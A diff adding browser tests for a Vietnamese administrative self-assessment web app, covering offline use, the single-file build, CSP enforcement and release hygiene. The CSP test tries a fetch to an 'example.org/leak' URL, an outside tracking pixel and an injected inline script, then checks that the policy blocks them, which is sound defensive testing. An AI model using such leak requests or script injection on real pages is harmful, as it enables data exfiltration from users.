@@ -1,0 +1,116 @@
+// Works anywhere: offline after the first visit (service worker), the
+// single file opened from disk, and a Content-Security-Policy that stops
+// any request to another origin while the app keeps working.
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import fs from 'node:fs';
+import path from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { serve, launch, openPage, root } from '../lib/harness.js';
+
+let srv, browser;
+before(async () => { srv = await serve(); browser = await launch(); });
+after(async () => { await browser?.close(); await srv?.close(); });
+
+const pts = (page, id) => page.locator(`[data-sub="${id}"] .pts`).getAttribute('data-points');
+
+async function shortJourney(page, unit) {
+  await page.getByRole('link', { name: 'Tạo bản tự đánh giá mới' }).click();
+  await page.getByLabel('Tên cơ quan, đơn vị').fill(unit);
+  await page.getByRole('button', { name: 'Tạo và bắt đầu tự chấm' }).click();
+  await page.locator('[data-sub="1.1.2"]').getByRole('radio', { name: /^Đạt/ }).check();
+  await page.locator('#s1-1-3-num').fill('9');
+  await page.locator('#s1-1-3-den').fill('10');
+  assert.equal(await pts(page, '1.1.3'), '1');
+}
+
+async function exportOk(page) {
+  const [dl] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Xuất tệp tự đánh giá (.json)' }).click()]);
+  const doc = JSON.parse(fs.readFileSync(await dl.path(), 'utf8'));
+  assert.equal(doc.format, 'cchc-self-assessment');
+  return doc;
+}
+
+test('offline after the first visit: reload, work and export with no network', async () => {
+  const { context, page, problems } = await openPage(browser, srv.origin);
+  await page.goto(srv.url);
+  await page.evaluate(async () => { await navigator.serviceWorker.ready; });
+  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
+  await context.setOffline(true);
+  await page.reload();
+  await page.getByRole('heading', { name: 'Bản tự đánh giá đã lưu trong trình duyệt này' }).waitFor();
+  await shortJourney(page, 'UBND xã Ia Grai');
+  await page.getByText(/Đã lưu lúc/).waitFor();
+  const doc = await exportOk(page);
+  assert.equal(doc.unit.name, 'UBND xã Ia Grai');
+  // and again after another reload, still offline
+  await page.reload();
+  await page.locator('[data-sub="1.1.3"]').waitFor();
+  assert.equal(await pts(page, '1.1.3'), '1');
+  assert.deepEqual(problems, []);
+  await context.close();
+});
+
+test('the single file works from disk, with autosave and export', async () => {
+  const file = path.join(root, 'dist-single', 'cchc-tu-danh-gia.html');
+  assert.ok(fs.existsSync(file), 'dist-single/cchc-tu-danh-gia.html missing: trunk build --release --offline');
+  const { context, page, problems } = await openPage(browser, 'file://');
+  await page.goto(pathToFileURL(file).href);
+  await page.getByRole('heading', { name: 'Bản tự đánh giá đã lưu trong trình duyệt này' }).waitFor();
+  await shortJourney(page, 'Sở Xây dựng');
+  await page.getByText(/Đã lưu lúc/).waitFor();
+  await page.reload();
+  await page.locator('[data-sub="1.1.3"]').waitFor();
+  assert.equal(await page.locator('#s1-1-3-num').inputValue(), '9');
+  assert.equal(await pts(page, '1.1.2'), '1');
+  const doc = await exportOk(page);
+  assert.equal(doc.summary.self_points, 2);
+  assert.deepEqual(problems, []);
+  await context.close();
+});
+
+test('the CSP blocks requests to other origins while the app works', async () => {
+  const { context, page, problems } = await openPage(browser, srv.origin);
+  await page.goto(srv.url);
+  await page.getByRole('link', { name: 'Tạo bản tự đánh giá mới' }).waitFor();
+  const blocked = await page.evaluate(async () => {
+    const seen = [];
+    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
+    let fetched = 'sent';
+    try { await fetch('https://example.org/leak?d=1'); } catch { fetched = 'blocked'; }
+    const img = document.createElement('img');
+    img.src = 'https://example.org/pixel.png';
+    document.body.appendChild(img);
+    const s = document.createElement('script');
+    s.textContent = 'window.__inline = 1';
+    document.body.appendChild(s);
+    await new Promise((r) => setTimeout(r, 200));
+    return { fetched, inline: window.__inline === 1, seen };
+  });
+  assert.equal(blocked.fetched, 'blocked');
+  assert.equal(blocked.inline, false);
+  assert.ok(blocked.seen.some((s) => s.startsWith('connect-src https://example.org')), blocked.seen.join('; '));
+  assert.ok(blocked.seen.some((s) => s.startsWith('img-src https://example.org')), blocked.seen.join('; '));
+  // nothing left the page: the only problems are the CSP's own reports
+  assert.deepEqual(problems.filter((p) => !/Content Security Policy|Refused to|Failed to fetch/.test(p)), []);
+  // …and the app still works
+  await shortJourney(page, 'Sở Y tế');
+  await context.close();
+});
+
+test('release hygiene: hashed names, pre-compressed copies, the service worker lists the build', () => {
+  const dist = path.join(root, 'dist');
+  const files = fs.readdirSync(dist);
+  for (const re of [/^cchc-[0-9a-f]{16}_bg\.wasm$/, /^cchc-[0-9a-f]{16}\.js$/, /^app-[0-9a-f]{16}\.css$/, /^start-[0-9a-f]{16}\.js$/]) {
+    const f = files.find((x) => re.test(x));
+    assert.ok(f, `no file like ${re}`);
+    assert.ok(files.includes(f + '.gz') && files.includes(f + '.br'), `${f} lacks .gz/.br`);
+  }
+  const sw = fs.readFileSync(path.join(dist, 'sw.js'), 'utf8');
+  assert.ok(files.filter((f) => /^(cchc|app|start)-.*\.(js|css|wasm)$/.test(f)).every((f) => sw.includes(`./${f}`)));
+  const html = fs.readFileSync(path.join(dist, 'index.html'), 'utf8');
+  console.log(`single file: ${fs.statSync(path.join(root, 'dist-single', 'cchc-tu-danh-gia.html')).size} bytes`);
+  assert.match(html, /Content-Security-Policy" content="default-src 'self'; script-src 'self' 'wasm-unsafe-eval'/);
+  assert.doesNotMatch(html, /<script type="module">/, 'no inline script');
+  assert.doesNotMatch(html, /\son[a-z]+="/, 'no inline handlers');
+});
